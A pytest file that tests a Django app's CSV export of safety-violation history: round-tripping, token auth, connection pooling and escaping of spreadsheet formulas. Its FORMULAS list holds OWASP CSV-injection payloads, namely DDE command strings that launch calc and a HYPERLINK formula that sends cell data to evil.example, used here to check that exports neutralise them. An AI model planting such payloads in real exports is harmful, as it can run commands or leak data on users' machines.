"""/history/export.csv on real PostgreSQL: the history's rows, every column, as CSV that
Python's csv module reads back (the 100,000-row download over Daphne is in
tests/test_history_browser.py)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from tests.history_rows import TABLES, acknowledge, all_pages, expected, insert

pytestmark = [
    pytest.mark.django_db(transaction=True),
    # The export streams asynchronously, as Daphne reads it; the test client is synchronous.
    pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume asynchronous"),
]


def read_csv(response: Any) -> tuple[list[str], list[dict[str, str]]]:
    assert response.status_code == 200, response.content
    body = b"".join(response)
    assert body.startswith(b"\xef\xbb\xbf"), "a byte-order mark, for spreadsheet programs"
    reader = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    header = next(reader)
    return header, [dict(zip(header, line, strict=True)) for line in reader]


def test_the_export_parses_back_to_the_same_rows(pg, historian, made_rows) -> None:
    hostile = insert(
        pg,
        "fire",
        "2025-03-02",
        "07:00:00.5",
        9,
        temperature=None,
        zone='a "quoted", line\nbreak é',
    )
    acknowledge(pg, "fire", hostile, by="Zoë")
    response = historian.get("/history/export.csv?from=2025-03-02&to=2025-03-04")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="violations-20250302T0000-to-20250305T0000.csv"'
    )
    header, lines = read_csv(response)
    assert header == [
        "kind", "table", "id", "camera_id", "violation_date", "violation_time",
        "violation_image", "acknowledged_by", "acknowledged_at", "temperature", "zone", "tags",
    ]  # fmt: skip
    wanted = [r for r in made_rows if "2025-03-02" <= (r[2] or "") <= "2025-03-04"]
    wanted.append(("fire", hostile, "2025-03-02", "07:00:00.5", 9, True))
    assert [(line["kind"], int(line["id"])) for line in lines] == expected(wanted)
    acks = dict(
        pg.execute(
            "SELECT table_name || '/' || violation_id, acknowledged_at"
            " FROM realtime_acknowledgement"
        ).fetchall()
    )
    by_key = {(r[0], r[1]): r for r in wanted}
    for line in lines:
        kind, pk, day, time, camera, acknowledged = by_key[line["kind"], int(line["id"])]
        assert line["acknowledged_by"] == (
            ("Zoë" if (kind, pk) == ("fire", hostile) else "anna") if acknowledged else ""
        )
        assert line["table"] == TABLES[kind]
        assert line["camera_id"] == str(camera)
        assert line["violation_date"] == day
        # As the detectors wrote it, fractions of a second included.
        written = time or ""
        assert line["violation_time"] == (written.rstrip("0") if "." in written else written)
        assert line["violation_image"] == f"/media/{kind}-{day}-{time}.jpg"
        ack_at = acks.get(f"{TABLES[kind]}/{pk}")
        assert line["acknowledged_at"] == (timezone.localtime(ack_at).isoformat() if ack_at else "")
        assert datetime.fromisoformat(line["acknowledged_at"] or "2025-01-01T00:00+00:00").tzinfo
        if kind != "fire":
            assert line["temperature"] == line["zone"] == line["tags"] == ""
    hostile_line = next(
        line for line in lines if line["id"] == str(hostile) and line["kind"] == "fire"
    )
    assert hostile_line["zone"] == 'a "quoted", line\nbreak é'
    assert hostile_line["acknowledged_by"] == "Zoë"
    assert hostile_line["temperature"] == ""


def test_the_export_takes_the_history_filters_and_a_token(pg, historian, made_rows, token) -> None:
    query = "kind=loto&camera=2&acknowledged=1"
    _, lines = read_csv(
        Client().get(f"/history/export.csv?{query}", headers={"Authorization": f"Bearer {token}"})
    )
    assert [(line["kind"], int(line["id"])) for line in lines] == all_pages(historian, query)
    assert Client().get("/history/export.csv").status_code == 302
    body = b"".join(historian.get("/history/export.csv?kind=human&bom=0"))
    assert body.startswith(b"kind,table,id,")


async def test_an_export_holds_no_database_connection_while_it_waits(pg, monkeypatch) -> None:
    """A slow download waits between batches: with a pooled connection held meanwhile, ten
    of them would take every connection of the process (REALTIME_DB_POOL_SIZE)."""
    from asgiref.sync import sync_to_async
    from django.db import connection

    from realtime.console import export
    from realtime.console.rows import RowFilter
    from realtime.violations import kinds

    monkeypatch.setattr(export, "BATCH_ROWS", 2)
    for n in range(5):
        insert(pg, "ppe", "2025-03-01", f"10:00:0{n}", n)

    def in_use() -> int:
        # The PostgreSQL backend's pool; django-stubs knows the base wrapper only.
        stats = connection.pool.get_stats()  # type: ignore[attr-defined]
        return int(stats["pool_size"] - stats.get("pool_available", 0))

    before = await sync_to_async(in_use)()
    registry = await sync_to_async(kinds.registry)()
    chunks = export.csv_chunks(registry, RowFilter(), [], scope=None, bom=False)
    await anext(chunks)  # the header
    assert (await anext(chunks)).count(b"\r\n") == 2
    assert await sync_to_async(in_use)() == before, "no connection held between batches"
    rest = [chunk async for chunk in chunks]
    assert b"".join(rest).count(b"\r\n") == 3


# Cells a spreadsheet program would run as formulas (OWASP's CSV injection payloads).
FORMULAS = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_rows(pg: Any) -> tuple[list[int], int]:
    """A fire row per formula (in violation_image and zone, the fire table's own text
    column), a row whose texts are numbers or plain, and a PPE row acknowledged by a
    formula; all on 2025-04-01."""
    fire = [
        pg.execute(
            "INSERT INTO violation_firedetections (camera_id, violation_date, violation_time,"
            " violation_image, temperature, zone, tags) VALUES (-3, '2025-04-01', %s, %s, -3.5,"
            " %s, ARRAY['=1+1'])"
            " RETURNING id",
            [f"10:00:0{n}", formula, formula],
        ).fetchone()[0]
        for n, formula in enumerate(FORMULAS)
    ]
    plain = insert(pg, "fire", "2025-04-01", "11:00", 4, temperature="-Infinity", zone="-3")
    ppe = insert(pg, "ppe", "2025-04-01", "12:00", 5)
    pg.execute(
        "UPDATE violation_ppedetections SET violation_image = %s WHERE id = %s", [FORMULAS[2], ppe]
    )
    acknowledge(pg, "ppe", ppe, by="=cmd|' /C calc'!A0")
    return fire, plain


def test_cells_a_spreadsheet_would_run_are_written_as_text(pg, historian, fire_kind) -> None:
    fire, plain = hostile_rows(pg)
    _, lines = read_csv(historian.get("/history/export.csv?from=2025-04-01&to=2025-04-01"))
    by_id = {(line["kind"], int(line["id"])): line for line in lines}
    for pk, formula in zip(fire, FORMULAS, strict=True):
        line = by_id["fire", pk]
        assert line["violation_image"] == "'" + formula, formula
        assert line["zone"] == "'" + formula, formula
        # A number is data, a negative one too: written as it is.
        assert (line["camera_id"], line["temperature"]) == ("-3", "-3.5")
        assert line["tags"] == '["=1+1"]', "an array is written as JSON: it starts with ["
    line = by_id["fire", plain]
    assert line["zone"] == "-3", "a text that is a plain number is written as it is"
    assert line["temperature"] == "'-Infinity", "not a plain number: the database's word"
    assert line["violation_image"] == "/media/fire-2025-04-01-11:00.jpg"
    (ppe,) = [line for line in lines if line["kind"] == "ppe"]
    assert ppe["violation_image"] == "'" + FORMULAS[2]
    assert ppe["acknowledged_by"] == "'=cmd|' /C calc'!A0"


def test_raw_formulas_are_for_programs_that_ask_with_a_token(
    pg, historian, fire_kind, token
) -> None:
    fire, _ = hostile_rows(pg)
    query = "/history/export.csv?from=2025-04-01&to=2025-04-01&formulas=raw"
    _, lines = read_csv(Client().get(query, headers={"Authorization": f"Bearer {token}"}))
    by_id = {int(line["id"]): line for line in lines if line["kind"] == "fire"}
    for pk, formula in zip(fire, FORMULAS, strict=True):
        assert (by_id[pk]["violation_image"], by_id[pk]["zone"]) == (formula, formula)
    # A link can carry a session cookie or ?token=, never a header: no raw formulas for it.
    for client, url in ((historian, query), (Client(), f"{query}&token={token}")):
        refused = client.get(url)
        assert refused.status_code == 400, url
        assert b"formulas=raw needs a token in the Authorization header" in refused.content
    _, lines = read_csv(historian.get(query.replace("=raw", "=escape")))
    assert {line["zone"] for line in lines if line["kind"] == "fire"} >= {"'" + FORMULAS[0]}
    bad = historian.get(query.replace("=raw", "=yes"))
    assert (bad.status_code, bad.content) == (400, b"formulas must be escape or raw\n")


def test_a_column_named_like_a_formula_is_a_text_header(pg, historian) -> None:
    from realtime.models import ViolationKind
    from realtime.violations import kinds

    pg.execute(
        "CREATE TABLE violation_formuladetections (id bigserial PRIMARY KEY, camera_id int,"
        ' violation_date date, violation_time time, violation_image text, "=1+2" text)'
    )
    try:
        ViolationKind.objects.create(
            slug="formula", label="F", schema_name="public",
            table_name="violation_formuladetections", position=50,
        )  # fmt: skip
        kinds.forget()
        pg.execute(
            "INSERT INTO violation_formuladetections (camera_id, violation_date, violation_time,"
            " violation_image, \"=1+2\") VALUES (1, '2025-04-01', '10:00', 'x.jpg', '@A1')"
        )
        header, lines = read_csv(historian.get("/history/export.csv?kind=formula"))
        assert header[-1] == "'=1+2"
        assert lines[0]["'=1+2"] == "'@A1"
    finally:
        pg.execute("DROP TABLE violation_formuladetections")
